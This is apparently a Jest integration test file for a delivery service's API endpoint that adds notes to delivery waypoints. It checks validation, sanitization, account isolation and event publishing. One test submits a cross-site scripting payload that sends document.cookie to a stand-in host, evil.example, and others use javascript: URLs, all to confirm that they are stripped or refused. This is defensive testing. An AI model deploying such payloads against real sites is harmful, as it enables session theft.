import { addNoteResponseSchema, listNotesResponseSchema, TOPICS, type NoteAddedEvent } from '@delivery/contracts';
import { eventually } from '@delivery/testing';
import { aCancelEvent, aShipRequest } from './support/ship-request.fixture';
import {
  call,
  collectOrderEvents,
  createOtherAccount,
  startHarness,
  tokenFor,
  V1_ORDERS,
  type Harness,
} from './support/standalone-harness';

const notesPath = (taskId: string, wayPointId: string) =>
  `/partner-integrations-service/v1/integrations/tasks/${taskId}/way_points/${wayPointId}/notes`;

describe('POST /partner-integrations-service/v1/integrations/tasks/{task_id}/way_points/{way_point_id}/notes', () => {
  let harness: Harness;
  let token: string;
  let task: { task_id: string; way_points: { id: string; type: string }[] };
  let dropoff: string;

  beforeAll(async () => {
    harness = await startHarness();
    token = await tokenFor(harness);
    task = (await call(harness, 'POST', V1_ORDERS, { token, json: aShipRequest() })).body.completedShipments[0];
    dropoff = task.way_points.find((w) => w.type === 'dropoff')!.id;
  });
  afterAll(() => harness.stop());

  const add = (json: unknown, wayPointId = dropoff, taskId = task.task_id, as = token) =>
    call(harness, 'POST', notesPath(taskId, wayPointId), { token: as, json });
  const errorOf = (body: any) => body.notifications[0];

  it('accepts a note on a cancelled task, kept for customer support (docs/decisions.md)', async () => {
    const request = aShipRequest();
    const order = (await call(harness, 'POST', V1_ORDERS, { token, json: request })).body.completedShipments[0];
    const cancel = aCancelEvent(request.shipRequest.shipment.fulfillmentId);
    expect((await call(harness, 'POST', `${V1_ORDERS}/cancel`, { token, json: cancel })).status).toBe(200);
    const wayPointId = order.way_points[1].id;
    const { status } = await add(
      { type: '0', note: 'Customer called: cancelled, do not come', company_id: '12' },
      wayPointId,
      order.task_id,
    );
    expect(status).toBe(201);
    const fetched = await call(harness, 'GET', `${V1_ORDERS}/${order.task_id}`, { token });
    expect(fetched.body.completedShipments[0]).toMatchObject({ status: 'cancelled' });
    expect(fetched.body.completedShipments[0].way_points[1].notes.map((n: { note: string }) => n.note)).toEqual([
      'Customer called: cancelled, do not come',
    ]);
  });

  it('stores a free-text note as given and answers it, with who wrote it and when', async () => {
    const { status, body } = await add({ type: 0, note: 'Gate code 4521 <b>not bold</b> & "quoted"', company_id: 12 });
    expect(status).toBe(201);
    const { note } = addNoteResponseSchema.parse(body);
    expect(note).toMatchObject({
      task_id: task.task_id,
      way_point_id: dropoff,
      type: 0,
      note: 'Gate code 4521 <b>not bold</b> & "quoted"',
      url: null,
      timestamp: String(harness.clock.now().getTime()),
      created_at: harness.clock.now().toISOString(),
      client_id: harness.demo.clientId,
    });
    expect(note.id).toMatch(/^note_/);
  });

  it('takes type 0 when type is left out', async () => {
    const { status, body } = await add({ note: 'Leave with the neighbour' });
    expect(status).toBe(201);
    expect(body.note.type).toBe(0);
  });

  it('stores a table note: a header of titles and rows as long as the header', async () => {
    const table = [
      ['Item', 'Qty', 'Fragile'],
      ['Glass vase', 1, true],
      ['<script>x</script>', 2, null],
    ];
    const { status, body } = await add({ type: 1, note: table });
    expect(status).toBe(201);
    expect(body.note).toMatchObject({ type: 1, note: table });
  });

  it('refuses a table row that is not as long as the header', async () => {
    const { status, body } = await add({ type: 1, note: [['Item', 'Qty'], ['Vase', 1], ['Bowl']] });
    expect(status).toBe(400);
    expect(errorOf(body).message).toContain('row 2 has 1 cells; the header has 2');
  });

  it('sanitizes an HTML note: the script is removed, the link and formatting stay', async () => {
    const html = '<p>Ring <b>twice</b><script>fetch("https://evil.example/"+document.cookie)</script><img src=x onerror=alert(1)></p>';
    const { status, body } = await add({ type: 2, note: html, url: 'https://maps.example/drop/42' });
    expect(status).toBe(201);
    expect(body.note).toMatchObject({ type: 2, note: '<p>Ring <b>twice</b></p>', url: 'https://maps.example/drop/42' });
  });

  it.each([['javascript:alert(1)'], ['ftp://files.example/x'], ['data:text/html,hi'], ['not a url']])('refuses the url %s', async (url) => {
    const { status, body } = await add({ type: 2, note: 'Open', url });
    expect(status).toBe(400);
    expect(errorOf(body).message).toContain('url');
  });

  it.each([
    ['a text over 10,000 characters', { type: 0, note: 'x'.repeat(10_001) }],
    ['an HTML note over 20,000 characters', { type: 2, note: 'x'.repeat(20_001) }],
    ['a table over 50 rows', { type: 1, note: Array.from({ length: 52 }, () => ['a']) }],
    ['a table over 20 columns', { type: 1, note: [Array.from({ length: 21 }, () => 'a')] }],
    ['a cell over 500 characters', { type: 1, note: [['a'], ['x'.repeat(501)]] }],
    ['an empty note', { type: 0, note: '' }],
  ])('refuses %s with 400', async (_, json) => {
    expect((await add(json)).status).toBe(400);
  });

  it('refuses another type number clearly', async () => {
    const { status, body } = await add({ type: 7, note: 'signature' });
    expect(status).toBe(400);
    expect(errorOf(body).message).toContain('type must be 0 (text), 1 (table) or 2 (HTML)');
  });

  it("answers an unknown task, an unknown way point, and another account's task with 404", async () => {
    const unknownTask = await add({ note: 'x' }, dropoff, 'tsk_000000000000000000000000');
    expect(unknownTask.status).toBe(404);
    expect(errorOf(unknownTask.body)).toMatchObject({ errorCode: 'TASK_NOT_FOUND' });
    const unknownWayPoint = await add({ note: 'x' }, 'wp_nowhere');
    expect(unknownWayPoint.status).toBe(404);
    expect(errorOf(unknownWayPoint.body)).toMatchObject({ errorCode: 'WAY_POINT_NOT_FOUND' });

    const other = await tokenFor(harness, await createOtherAccount(harness));
    const theirs = await add({ note: 'x' }, dropoff, task.task_id, other);
    const unknown = await add({ note: 'x' }, dropoff, 'tsk_ffffffffffffffffffffffff', other);
    expect(theirs.status).toBe(404);
    expect(JSON.stringify(theirs.body).replace(task.task_id, 'ID')).toBe(
      JSON.stringify(unknown.body).replace('tsk_ffffffffffffffffffffffff', 'ID'),
    );
  });

  it('reads the notes back, on the path and per way point in Get Order', async () => {
    const fresh = (await call(harness, 'POST', V1_ORDERS, { token, json: aShipRequest() })).body.completedShipments[0];
    const [pickup, drop] = [fresh.way_points[0].id, fresh.way_points[1].id];
    await add({ note: 'first' }, drop, fresh.task_id);
    harness.clock.advance(1_000);
    await add({ type: 1, note: [['A'], ['b']] }, drop, fresh.task_id);
    await add({ note: 'at the store' }, pickup, fresh.task_id);

    const listed = listNotesResponseSchema.parse((await call(harness, 'GET', notesPath(fresh.task_id, drop), { token })).body);
    expect(listed.notes.map((n) => n.note)).toEqual(['first', [['A'], ['b']]]);

    const order = (await call(harness, 'GET', `${V1_ORDERS}/${fresh.task_id}`, { token })).body.completedShipments[0];
    expect(order.way_points[0].notes.map((n: { note: string }) => n.note)).toEqual(['at the store']);
    expect(order.way_points[1].notes).toHaveLength(2);
  });

  it('publishes NoteAdded on delivery.notes.v1, keyed by task id', async () => {
    const collector = await collectOrderEvents<NoteAddedEvent>(harness, TOPICS.notes);
    const { body } = await add({ note: 'event please' });
    await eventually(() =>
      expect(collector.events.find((e) => e.data.noteId === body.note.id)).toMatchObject({ type: 'NoteAdded', subject: task.task_id }),
    );
    expect(collector.keys[collector.events.findIndex((e) => e.data.noteId === body.note.id)]).toBe(task.task_id);
    // The task as order-lifecycle's own events carry it, built there: requirements included.
    const stamped = collector.events.find((e) => e.data.noteId === body.note.id)!.data.task;
    expect(stamped).toMatchObject({ taskId: task.task_id, requirements: { kinds: [], minimumAge: null }, revision: expect.any(Number) });
    await collector.stop();
  });

  it('refuses a call without a bearer token', async () => {
    const response = await call(harness, 'POST', notesPath(task.task_id, dropoff), { json: { note: 'x' } });
    expect(response.status).toBe(401);
    expect(response.headers.get('www-authenticate')).toBe('Bearer realm="delivery"');
  });

  it('still answers Get Order when the notes service is down, with notes null', async () => {
    await harness.running.stopNotes();
    const { status, body } = await call(harness, 'GET', `${V1_ORDERS}/${task.task_id}`, { token });
    expect(status).toBe(200);
    expect(body.completedShipments[0].way_points.map((w: { notes: unknown }) => w.notes)).toEqual([null, null]);
    expect((await add({ note: 'x' })).status).toBe(503);
  });
});
